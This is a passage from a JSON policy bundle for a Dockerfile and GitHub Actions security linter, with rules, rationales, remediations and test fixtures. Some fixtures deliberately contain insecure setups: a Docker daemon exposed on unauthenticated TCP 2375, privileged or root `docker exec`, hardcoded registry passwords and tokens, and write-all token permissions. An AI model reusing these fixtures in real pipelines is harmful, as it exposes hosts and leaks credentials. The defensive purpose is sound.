requirements.txt\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":26},{"line":3,"column":1}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM python:3.12-alpine\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements-dev.txt\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-package-cache-kept.yaml"},{"id":"dockerfile-shell-form-cmd","pack":"dockerfile-hygiene","title":"CMD or ENTRYPOINT in shell form","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["CMD","ENTRYPOINT"]}}},"then":{"properties":{"form":{"const":"json"}}}}}}},"message":"This CMD or ENTRYPOINT in stage {{name}} uses shell form, so the program runs under `/bin/sh -c` and never receives `docker stop`\'s SIGTERM: it is killed after the timeout instead of shutting down cleanly. Write it as a JSON array, e.g. `CMD [\\"node\\", \\"server.js\\"]`.","rationale":"In shell form Docker runs `/bin/sh -c \\"<command>\\"`, so the shell is PID 1 and the application a child that does not get the signals sent to the container. Graceful shutdown, connection draining and flushing of writes are skipped, and a shell must exist in the image. BuildKit\'s JSONArgsRecommended check and Docker\'s best practices recommend the exec (JSON) form.","remediation":"```dockerfile\\nENTRYPOINT [\\"/usr/local/bin/app\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```\\n\\nIf shell features are needed, use `exec` so the program replaces the shell:\\n`CMD [\\"/bin/sh\\", \\"-c\\", \\"exec node server.js --port \\\\\\"$PORT\\\\\\"\\"]`.","references":[{"framework":"docker-build-check","id":"JSONArgsRecommended"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/json-args-recommended/"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#shell-and-exec-form"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nCMD node /app/server.js\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nENTRYPOINT [\\"node\\"]\\nCMD [\\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-shell-form-cmd.yaml"},{"id":"dockerfile-workdir-relative","pack":"dockerfile-hygiene","title":"WORKDIR is a relative path","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"const":"WORKDIR"}}},"then":{"properties":{"args":{"prefixItems":[{"pattern":"^(/|\\\\$|[A-Za-z]:[\\\\\\\\/])"}]}}}}}}},"message":"`WORKDIR {{value}}` is relative, so where it lands depends on the base image\'s working directory, which can change with an update of that image. Write an absolute path, e.g. `WORKDIR /app`.","rationale":"A relative WORKDIR is resolved against the previous working directory, which for the first one in a stage is whatever the base image set. When the base image changes its WORKDIR, files are copied and commands run somewhere else, with no change in this Dockerfile. BuildKit\'s WorkdirRelativePath check and Docker\'s best practices ask for absolute paths.","remediation":"```dockerfile\\nWORKDIR /app\\n```","references":[{"framework":"docker-build-check","id":"WorkdirRelativePath"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/workdir-relative-path/"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR app\\nCOPY . .\\n","expect":[{"line":2,"column":9,"endLine":2,"endColumn":12}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG APP_HOME=/srv/app\\nWORKDIR /app\\nWORKDIR ${APP_HOME}\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-workdir-relative.yaml"}],"source":"policies/dockerfile-hygiene"},{"id":"workflows","title":"GitHub Actions workflow security","description":"What GitHub\'s security hardening guidance, the OWASP Docker Security Cheat Sheet\'s supply-chain rule and OpenSSF Scorecard ask of GitHub Actions workflows and composite actions: actions and reusable workflows pinned to immutable commits, and the jobs that build and run containers kept from trusting what they should not.","version":"0.1.0","rules":[{"id":"action-not-pinned","pack":"workflows","title":"Action or reusable workflow not pinned to a commit SHA","severity":"medium","subject":"action-ref","when":{"properties":{"isLocal":{"const":false},"isDocker":{"const":false}},"not":{"required":["owner"],"properties":{"owner":{"enum":{"$param":"exemptOwners"}}}}},"schema":{"properties":{"isSha":{"const":true}}},"message":"`{{subject.uses}}` points at a tag or branch, which its owner (or whoever compromises the repository) can move to different code that then runs with this job\'s token and secrets. Pin the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`.","rationale":"A tag such as `v4` or a branch such as `main` is a mutable pointer: the next run fetches whatever commit it points to at that moment, so one compromised or careless upstream release reaches every workflow that uses it, with access to its `GITHUB_TOKEN`, its secrets and the code it builds and publishes (as in the tj-actions/changed-files compromise of 2025). A full commit SHA is the only immutable reference GitHub accepts. GitHub\'s security hardening guide and the OWASP cheat sheet\'s supply-chain rule recommend pinning; OpenSSF Scorecard scores it. Teams that trust GitHub\'s own actions may exempt their owners with the `exemptOwners` parameter, e.g. `[actions, github]`.","remediation":"Replace the tag with the commit it currently resolves to and keep the tag as a comment, so that\\nDependabot or Renovate can propose updates:\\n\\n```yaml\\nsteps:\\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\\njobs:\\n  release:\\n    uses: example/shared-workflows/.github/workflows/release.yml@<40-hex sha> # v1.3.0\\n```\\n\\nEnable Dependabot for `package-ecosystem: github-actions` so pinned actions are kept current.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"}],"params":{"exemptOwners":[]},"paramSchemas":{"exemptOwners":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Owners (as written in `uses:`, case-sensitive) whose actions need no SHA pin, e.g. [actions, github]. The default exempts nobody."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v4\\n      - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0\\n      - name: Lint\\n        uses: \\"github/super-linter/slim@main\\"\\n      - uses: docker/build-push-action@11bd719\\n      - uses: ./.github/actions/setup\\n      - uses: docker://alpine:3.20\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":34},{"line":9,"column":9},{"line":10,"column":9}]},{"file":".github/workflows/release.yml","content":"on:\\n  push:\\n    tags: [\\"v*\\"]\\njobs:\\n  shared:\\n    uses: example/shared-workflows/.github/workflows/release.yml@v1\\n    secrets: inherit\\n  local:\\n    uses: ./.github/workflows/build.yml\\n  pinned:\\n    uses: example/shared-workflows/.github/workflows/scan.yml@0123456789abcdef0123456789abcdef01234567\\n","expect":[{"line":6,"column":5}]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - uses: ./\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: npm test\\n","expect":[]},{"file":"action.yml","content":"name: Setup\\ndescription: Sets up the toolchain\\nruns:\\n  using: composite\\n  steps:\\n    - uses: actions/cache@v4\\n      with:\\n        path: ~/.npm\\n        key: npm\\n    - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a\\n    - run: npm ci\\n      shell: bash\\n","expect":[{"line":6,"column":7}]}],"source":"policies/workflows/action-not-pinned.yaml"},{"id":"command-docker-daemon-tcp-without-tls","pack":"workflows","title":"Docker daemon reached or exposed over plain TCP in a script","severity":"high","subject":"command","when":{"properties":{"origin":{"enum":["workflow","action"]}}},"schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}},"docker":{"properties":{"globalFlags":{"properties":{"host":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}}}},"if":{"properties":{"name":{"const":"dockerd"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}},"message":"This script talks to (or starts) a Docker daemon on plain TCP port 2375: that API has no authentication, so anything that can reach the port can start a privileged container and own the machine. Use the local socket, or `tcp://\u2026:2376` with `--tlsverify` and client certificates.","rationale":"The Docker API is root-equivalent. On the Unix socket it is protected by file permissions; on TCP without TLS it is open to every process and host that can reach the port, with no authentication, and traffic can be read or altered in transit. Exposed daemons on 2375 are actively scanned for and turned into crypto-miners within minutes. Docker\'s documentation and the OWASP cheat sheet (rule 1) require TLS with client certificates (port 2376) or SSH when the daemon must be reached remotely.","remediation":"Keep using the local socket, or protect the TCP endpoint:\\n\\n```yaml\\n- run: docker --tlsverify -H tcp://docker.example.com:2376 ps\\n  env:\\n    DOCKER_CERT_PATH: ${{ runner.temp }}/docker-certs\\n```\\n\\nFor remote builders, `DOCKER_HOST=ssh://deploy@builder.example.com` uses SSH instead.","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^(--host=|-H)?tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A Docker host on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          sudo dockerd -H unix:///var/run/docker.sock -H tcp://0.0.0.0:2375 &\\n          DOCKER_HOST=tcp://127.0.0.1:2375 docker ps\\n          docker -H tcp://10.0.0.5 info\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":78},{"line":8,"column":11},{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker --tlsverify -H tcp://docker.example.com:2376 ps\\n          DOCKER_HOST=ssh://deploy@builder.example.com docker info\\n","expect":[]}],"source":"policies/workflows/command-docker-daemon-tcp-without-tls.yaml"},{"id":"command-docker-exec-privileged","pack":"workflows","title":"docker exec runs privileged or as root","severity":"medium","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"exec"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"privileged":{"items":{"not":{"enum":["true","1","t","T","TRUE","True"]}}},"user":{"items":{"not":{"pattern":{"$param":"rootUser"}}}}}}}}}},"message":"`docker exec` here runs with `{{key}}` set to `{{value}}`, handing the command more power than the container itself was given (every capability with `--privileged`, root with `-u root`). Run it as the container\'s own user and without `--privileged`.","rationale":"`docker exec --privileged` gives the new process every capability and device access even in a container that was started unprivileged, and `docker exec -u root` bypasses the container\'s non-root USER. Either undoes the hardening the container was started with, for a command that often processes untrusted input in CI. The CIS Docker Benchmark asks that exec commands not use the privileged option (5.23) or the root user (5.24).","remediation":"```yaml\\n- run: docker exec app ./manage.py migrate\\n```\\n\\nIf a task needs root, build it into the image or run a separate, short-lived container for it.","references":[{"framework":"cis-docker","id":"1.6.0:5.23"},{"framework":"cis-docker","id":"1.6.0:5.24"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--user` value that means root: the name or UID, with or without a group."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d --name app ghcr.io/example/app:1.4.2\\n          docker exec --privileged app mount -t tmpfs none /mnt\\n          docker exec -u root app apt-get install -y curl\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":64},{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker exec app ./manage.py migrate\\n          docker exec -u 10001 app id\\n","expect":[]}],"source":"policies/workflows/command-docker-exec-privileged.yaml"},{"id":"command-docker-login-password","pack":"workflows","title":"docker login with a password written in the script","severity":"high","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"login"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"password":{"items":{"pattern":{"$param":"expression"}}}}}}}}},"message":"`docker login` is given a password written in the script, so it is in the repository for anyone to read, and `-p` also puts it in the process list. Pipe a secret in instead: `echo \\"${{ secrets.REGISTRY_TOKEN }}\\" | docker login -u bot --password-stdin ghcr.io`, or use docker/login-action.","rationale":"A password written in a workflow\'s `run:` script is committed to the repository\'s history, visible to everyone with read access and copied into every fork, and it cannot be masked in logs because GitHub does not know it is a secret. Docker itself warns that `--password` on the command line is insecure: the value shows up in `ps` and shell history. The OWASP cheat sheet (rule 12) asks that secrets be kept out of files and command lines.","remediation":"```yaml\\n- name: Log in to the registry\\n  run: echo \\"$REGISTRY_TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n  env:\\n    REGISTRY_TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n```\\n\\nor `uses: docker/login-action@<sha>` with `password: ${{ secrets.REGISTRY_TOKEN }}`. Rotate the\\npassword that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/login/#password-stdin"}],"params":{"expression":"\\\\$"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A password value that comes from somewhere else (an expression or a shell variable) rather than being written in the file."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker login -u ci-bot -p \'hunter2-hunter2\' registry.example.com\\n          docker push registry.example.com/app:1.4.2\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":75}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \\"$TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n        env:\\n          TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n      - run: docker login -u ci-bot --password \\"$TOKEN\\" registry.example.com\\n","expect":[]}],"source":"policies/workflows/command-docker-login-password.yaml"},{"id":"container-registry-password-literal","pack":"workflows","title":"Registry password written in a job or service container\'s credentials","severity":"high","subject":"container","when":{"required":["credentials"],"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"credentials":{"properties":{"password":{"pattern":{"$param":"expression"}}}}}},"message":"{{name}} writes its registry password into the workflow, where everyone who can read the repository (and every fork) can copy it. Store it as an encrypted secret and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.","rationale":"A password in a workflow file is committed to the repository\'s history, copied into forks and visible to anyone with read access; rotating it does not remove the old value from history. GitHub encrypts repository and organisation secrets, masks them in logs and withholds them from workflows triggered by forks. For GitHub Container Registry, the job\'s own `GITHUB_TOKEN` needs no stored password at all. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nThen rotate the password that was committed: it stays in the repository\'s history.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials"}],"params":{"expression":"\\\\$\\\\{\\\\{"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that comes from somewhere else: a `${{ secrets.X }}` (or any other) expression."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: registry.example.com/ci/node:22\\n      credentials:\\n        username: ci-bot\\n        password: hunter2-hunter2\\n    services:\\n      db:\\n        image: registry.example.com/ci/postgres:16\\n        credentials:\\n          username: ci-bot\\n          password: ${{ secrets.REGISTRY_PASSWORD }}\\n    steps:\\n      - run: npm test\\n","expect":[{"line":9,"column":9,"endLine":9,"endColumn":34}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/container-registry-password-literal.yaml"},{"id":"workflow-container-literal-secret","pack":"workflows","title":"Secret written into a job or service container\'s env","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode))":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the workflow. For a throwaway test database that is harmless, but a real credential is now readable by everyone with access to the repository. Use `${{ secrets.\u2026 }}` for anything that is not a disposable test value.","rationale":"Service containers in CI usually get a made-up password for a database that lives for one job, which is why this rule is low severity. The same place is also where real credentials for licensed images, external services or shared test environments end up, and a value written in the workflow is committed, visible to every reader and fork, and not masked in logs. The OWASP cheat sheet (rule 12) asks that secrets never be written into configuration files.","remediation":"```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    env:\\n      POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}   # or a disposable value, suppressed\\n```\\n\\nA disposable value can be kept with an inline suppression that says so:\\n`# containment: ignore[workflow-container-literal-secret] throwaway CI database`.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: an expression or a shell variable."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      env:\\n        NPM_TOKEN: npm_abcdefghijklmnop\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_USER: app\\n          POSTGRES_PASSWORD: postgres\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":40},{"line":14,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}\\n          POSTGRES_HOST_AUTH_METHOD: trust\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-container-literal-secret.yaml"},{"id":"workflow-docker-daemon-tcp-without-tls","pack":"workflows","title":"Workflow step points Docker at, or exposes, a daemon on plain TCP","severity":"medium","subject":"workflow.step","schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}}},"if":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/setup-docker-action(@|$)"}}},"then":{"properties":{"with":{"properties":{"tcp-port":false}}}}},"message":"This step sets `{{key}}` so that Docker is reached over plain TCP, where its API has no authentication: anything that can reach the port can start privileged containers on that daemon. Use the local socket (the default), or TLS on port 2376 with client certificates.","rationale":"The Docker API is root-equivalent, and on TCP without TLS anyone who can reach the port can use it. A `DOCKER_HOST=tcp://\u2026:2375` in a workflow usually points at a Docker-in-Docker service or a remote builder whose port is then open to every container and process on that network. The OWASP cheat sheet (rule 1) asks never to expose the daemon without TLS.","remediation":"Leave `DOCKER_HOST` unset to use the runner\'s socket, or use TLS:\\n\\n```yaml\\nenv:\\n  DOCKER_HOST: tcp://docker:2376\\n  DOCKER_TLS_VERIFY: \\"1\\"\\n  DOCKER_CERT_PATH: /certs/client\\n```","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `DOCKER_HOST` on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          tcp-port: 2375\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://localhost:2375\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":25},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          set-host: true\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://docker:2376\\n          DOCKER_TLS_VERIFY: \\"1\\"\\n","expect":[]}],"source":"policies/workflows/workflow-docker-daemon-tcp-without-tls.yaml"},{"id":"workflow-image-push-without-attestations","pack":"workflows","title":"Image pushed without SBOM and provenance attestations","severity":"low","subject":"workflow.step","when":{"required":["uses","with"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"},"with":{"required":["push"],"properties":{"push":{"const":"true"}}}}},"schema":{"properties":{"with":{"required":["sbom"],"properties":{"sbom":{"const":"true"},"provenance":{"not":{"enum":["false","0"]}}}}}},"message":"This step pushes an image without {{key}} attestations, so consumers cannot verify how it was built or see what it contains when a vulnerability is announced. Add `sbom: true` and keep provenance on (`provenance: mode=max`).","rationale":"An SBOM attestation lists the packages in the image, which lets scanners and consumers answer \\"are we affected?\\" without pulling and unpacking it. A provenance attestation records the source repository, commit, build parameters and builder, which lets consumers check that the image was built from this repository by this workflow. BuildKit attaches both to the pushed image; docker/build-push-action adds provenance by default (`mode=max` for public repositories, `mode=min` for private ones) unless `provenance: false`, but an SBOM only with `sbom: true`. The OWASP cheat sheet\'s supply-chain rule (13) and Docker Scout rely on them.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    sbom: true\\n    provenance: mode=max\\n```","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/attestations/"},{"framework":"url","url":"https://docs.docker.com/build/metadata/attestations/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          provenance: false\\n","expect":[{"line":7,"column":9,"endLine":7,"endColumn":13},{"line":10,"column":11,"endLine":10,"endColumn":28}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          sbom: true\\n          provenance: mode=max\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: false\\n          load: true\\n          tags: app:test\\n","expect":[]}],"source":"policies/workflows/workflow-image-push-without-attestations.yaml"},{"id":"workflow-job-permissions-write-all","pack":"workflows","title":"Job grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow.job","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"Job {{name}} sets `permissions: write-all`, so every step in it, including third-party actions, holds a token that can push code, publish packages and change releases. List only the scopes this job needs, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step of the job. `write-all` turns any compromised action or injected script into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idpermissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions: write-all\\n    steps:\\n      - run: make release\\n","expect":[{"line":7,"column":5,"endLine":7,"endColumn":27}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-job-permissions-write-all.yaml"},{"id":"workflow-login-action-password-literal","pack":"workflows","title":"docker/login-action given a password written in the workflow","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/login-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"password":{"pattern":"^$|\\\\$\\\\{\\\\{"}}}}},"message":"This docker/login-action step writes the registry password into the workflow, where everyone who can read the repository can copy it. Store it as a secret and write `password: ${{ secrets.REGISTRY_TOKEN }}` (or `${{ secrets.GITHUB_TOKEN }}` for ghcr.io).","rationale":"docker/login-action masks the password only when it comes from a secret; a literal value is part of the committed file, visible to every reader and fork and kept in history after it is changed. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\n- uses: docker/login-action@<full commit sha> # v3\\n  with:\\n    registry: ghcr.io\\n    username: ${{ github.actor }}\\n    password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nRotate the password that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/push-multi-registries/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@v3\\n        with:\\n          registry: registry.example.com\\n          username: ci-bot\\n          password: hunter2-hunter2\\n","expect":[{"line":10,"column":11,"endLine":10,"endColumn":36}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772\\n        with:\\n          registry: ghcr.io\\n          username: ${{ github.actor }}\\n          password: ${{ secrets.GITHUB_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-login-action-password-literal.yaml"},{"id":"workflow-permissions-missing","pack":"workflows","title":"Workflow does not limit the GITHUB_TOKEN\'s permissions","severity":"low","subject":"workflow","when":{"not":{"properties":{"on":{"properties":{"events":{"const":["workflow_call"]}}}}}},"schema":{"required":["permissions"]},"message":"This workflow does not declare `permissions:`, so its jobs get the repository\'s default token permissions, which may include write access to code, packages and releases. Add `permissions: { contents: read }` at the top and grant more only to the jobs that need it.","rationale":"Every job receives a `GITHUB_TOKEN`. Without a `permissions:` block its scopes are the repository\'s or organisation\'s default, which for older repositories is read and write on almost everything. A compromised step (a malicious action, an injected script) can then push code, publish packages or alter releases. Declaring the minimum at the workflow level makes the token\'s power visible in review. If every job declares its own `permissions:`, suppress this finding with that reason.","remediation":"```yaml\\npermissions:\\n  contents: read\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write   # only this job pushes images\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#modifying-the-permissions-for-the-github_token"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[{"line":1,"column":1,"endLine":1,"endColumn":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]},{"file":".github/workflows/reusable.yml","content":"on: workflow_call\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-missing.yaml"},{"id":"workflow-permissions-write-all","pack":"workflows","title":"Workflow grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"`permissions: write-all` gives every job of this workflow a token that can push code, publish packages, change releases and more, so any compromised step can do all of that. List only the scopes the jobs need, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step, including third-party actions and scripts that process untrusted input. `write-all` turns any weakness in any of them into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\npermissions:\\n  contents: read\\n  